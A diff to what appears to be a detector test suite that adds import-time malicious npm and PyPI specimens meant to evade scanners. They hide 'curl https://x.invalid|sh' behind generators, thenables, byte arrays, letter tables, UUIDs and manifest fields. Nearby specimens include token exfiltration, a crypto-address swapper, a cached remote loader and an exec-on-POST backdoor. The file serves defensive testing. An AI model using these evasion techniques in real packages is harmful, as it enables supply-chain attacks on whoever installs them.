@@ -1,7 +1,7 @@
 """Ideas that the detectors' authors had not thought of: written down unseen, then held. Each runs when it is imported.
 
-They came in four tables of fifty, forty-four, forty-six and seventy-five, of which ten, twenty-three, fifteen and
-fifteen were missed when they were written. Those stand here, by what they do to whoever installs them.
+They came in five tables of fifty, forty-four, forty-six, seventy-five and seventy-six, of which ten, twenty-three,
+fifteen, fifteen and thirteen were missed when they were written. Those stand here, by what they do to whoever installs them.
 """
 
 from tests.evasion.specimen import Specimen, npm, pypi
@@ -76,7 +76,23 @@ SPECIMENS: tuple[Specimen, ...] = (
     pypi(_HARM, "a module that is fetched and imported", "import sys, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('https://x.invalid/h.py', d + '/helper_x.py')\nsys.path.insert(0, d)\nimport helper_x\n"),
     pypi(_HARM, "comments that are code", "import inspect, sys\nexec('\\n'.join(l[3:] for l in inspect.getsource(sys.modules[__name__]).splitlines() if l.startswith('#: ')))\n#: import os\n#: os.system('curl https://x.invalid|sh')\n"),
     pypi(_TAKEN, "strings of the collector", "import gc, re, urllib.request\nfound = [o for o in gc.get_objects() if isinstance(o, dict) and 'token' in o]\nurllib.request.urlopen('https://x.invalid/', repr(found).encode())\n"),
+    # The fifth table
+    npm(_HARM, "a generator", "function* g(){yield 'cu';yield 'rl https://x';yield '.invalid|sh';}\nrequire('child_process').exec([...g()].join(''));\n"),
+    npm(_HARM, "through an iterator", "const o={[Symbol.iterator]:function*(){yield require('child_process').exec('curl https://x.invalid|sh')}};\n[...o];\n"),
+    npm(_HARM, "through await of a thenable", "(async()=>{await {then(r){require('child_process').exec('curl https://x.invalid|sh');r()}}})();\n"),
+    npm(_HARM, "in toJSON", "JSON.stringify({toJSON(){require('child_process').exec('curl https://x.invalid|sh')}});\n"),
+    npm(_HARM, "in inspect.custom", "console.log({[require('util').inspect.custom](){require('child_process').exec('curl https://x.invalid|sh');return ''}});\n"),
+    pypi(_HARM, "a table of letters", "import string\np = string.printable\nexec(''.join(p[i] for i in [18,22,25,24,27,29,94,24,28,78,24,28,75,28,34,28,29,14,22,69,68,12,30,27,21,94,17,29,29,25,28,77,76,76,33,75,18,23,31,10,21,18,13,91,28,17,68,70]))\n"),
+    pypi(_HARM, "translated", "import os\nos.system('dvsm iuuqt://y.jowbmje|ti'.translate(str.maketrans('bcdefghijklmnopqrstuvwxyza','abcdefghijklmnopqrstuvwxyz')))\n"),
+    pypi(_HARM, "packed", "import struct, os\nos.system(struct.pack('25B', 99, 117, 114, 108, 32, 104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 110, 118, 97, 108, 105, 100, 124, 115, 104).decode())\n"),
+    pypi(_HARM, "an array of bytes", "import array\nexec(array.array('B', [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,105,110,118,97,108,105,100,124,115,104,39,41]).tobytes().decode())\n"),
+    pypi(_HARM, "formatted numbers", "import os\nos.system(''.join(f'{n:c}' for n in [99,117,114,108,32,104,116,116,112,115,58,47,47,120,46,105,110,118,97,108,105,100,124,115,104]))\n"),
+    pypi(_HARM, "identifiers as bytes", "import uuid\nexec(b''.join(uuid.UUID(u).bytes for u in ['696d706f-7274-206f-733b-6f732e737973','74656d28-2763-7572-6c20-68747470733a','2f2f782e-696e-7661-6c69-647c73682729','20202020-2020-2020-2020-202020202020']))\n"),
+    pypi(_HARM, "a file of its own words", "import pathlib, os\nos.system(pathlib.Path(__file__).with_name('notes.md').read_text().splitlines()[2])\n", {"pad/notes.md": "# Notes\n\ncurl https://x.invalid|sh\n"}),
+    npm(_HARM, "a command in a file of words", "require('child_process').exec(require('fs').readFileSync(__dirname+'/notes.md','utf8').split('\\n')[2]);\n", {"notes.md": "# Notes\n\ncurl https://x.invalid|sh\n"}),
+    npm(_HARM, "a command in the manifest", "require('child_process').exec(require('./package.json').description);\n", {"package.json": '{"name":"example-package","version":"1.0.1","main":"index.js","description":"curl https://x.invalid|sh"}'}),
     # Known to be missed
+    npm(_HARM, "keywords of the manifest", "const k=require('./package.json').keywords;\nrequire(k[0]+'_'+k[1])[k[2]](k[3]);\n", {"package.json": '{"name":"example-package","version":"1.0.1","main":"index.js","keywords":["child","process","exec","curl https://x.invalid|sh"]}'}, missed="what stands in the manifest is not put together with the code that reads it"),
     npm(_BETWEEN, "addresses of payments, wherever a page shows them", _PAGE % "  const swap = (n) => { if (n.nodeType === 3) n.data = n.data.replace(/\\b(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/g, 'bc1qexample'); else n.childNodes.forEach(swap); };\n  new MutationObserver((m) => m.forEach((r) => r.addedNodes.forEach(swap))).observe(document, { childList: true, subtree: true });\n", missed="what is shown in a page is not followed: the pattern alone weighs little"),
     npm(_HARM, "code that a page keeps", "if (typeof localStorage !== 'undefined') {\n  const k = localStorage.getItem('_pt');\n  if (k) Function(k)();\n  else fetch('https://l.invalid/c').then((r) => r.text()).then((t) => localStorage.setItem('_pt', t));\n}\n", missed="what a page keeps is not followed from one visit to the next"),
     pypi(_HARM, "a server that runs what it is sent", "import threading\nfrom http.server import BaseHTTPRequestHandler, HTTPServer\n\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        exec(self.rfile.read(int(self.headers['Content-Length'])))\n\nthreading.Thread(target=HTTPServer(('0.0.0.0', 8765), H).serve_forever, daemon=True).start()\n"),
